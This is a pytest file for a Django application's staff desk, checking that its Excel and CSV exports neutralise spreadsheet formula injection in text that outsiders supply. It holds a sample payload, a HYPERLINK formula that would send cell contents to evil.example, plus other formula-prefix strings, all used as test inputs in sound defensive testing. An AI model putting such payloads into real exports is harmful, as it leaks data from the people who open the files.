"""Desk exports: text someone else supplied is a string in the file, never a formula (OWASP CSV injection).

A procedure name, an applicant-facing template text or an MO's text/recipient comes from outside; the
files are read back with openpyxl and csv as a spreadsheet program would."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO

import pytest
from django.test import Client
from openpyxl import load_workbook

from motcua.desk.models import Role, StaffProfile
from motcua.dossiers import services
from motcua.dossiers.models import DossierEvent
from motcua.messaging.models import IncomingMessage, Message, Status

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
PAYLOADS = [EVIL, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def admin_client(province, django_user_model, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    user = django_user_model.objects.create_user("hung", password="x")
    StaffProfile.objects.create(user=user, agency=province["016"], role=Role.AGENCY_ADMIN)
    c = Client()
    c.force_login(user)
    return c


@pytest.fixture
def hostile(province, make_dossier):
    province["guide"].name = EVIL
    province["guide"].save()
    d = make_dossier("guide")
    services.apply_event(d, DossierEvent.RESULT_READY, "test")
    Message.objects.filter(dossier=d).update(status=Status.DELIVERED)
    for i, text in enumerate(PAYLOADS):
        reply = Message.objects.create(kind="lookup_reply", cause=f"reply:x:{i}", agency=province["016"],
                                       to="84912345678", text=text, parts=1, cost=800, status=Status.DELIVERED)
        IncomingMessage.objects.create(connection="sim", remote_id=f"r{i}", sender="84912345678", recipient=text[:16],
                                       text=text, price=1000, outcome=text[:16], reply=reply)
    return d


def no_formulas(content: bytes) -> list[str]:
    wb = load_workbook(BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                    texts.append(cell.value)
    return texts


def test_report_excel_has_no_formula(admin_client, hostile):
    texts = no_formulas(admin_client.get("/desk/bao-cao.xlsx").content)
    assert "'" + EVIL in texts  # the procedure name is there, as text


def test_messages_excel_has_no_formula(admin_client, hostile):
    texts = no_formulas(admin_client.get("/desk/tin-nhan", {"xuat": "xlsx"}).content)
    assert "'=1+1" in texts and "'" + EVIL in texts


def test_messages_csv_has_no_formula(admin_client, hostile):
    body = admin_client.get("/desk/tin-nhan", {"xuat": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(body)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and c != "-"]
    assert "'=1+1" in cells
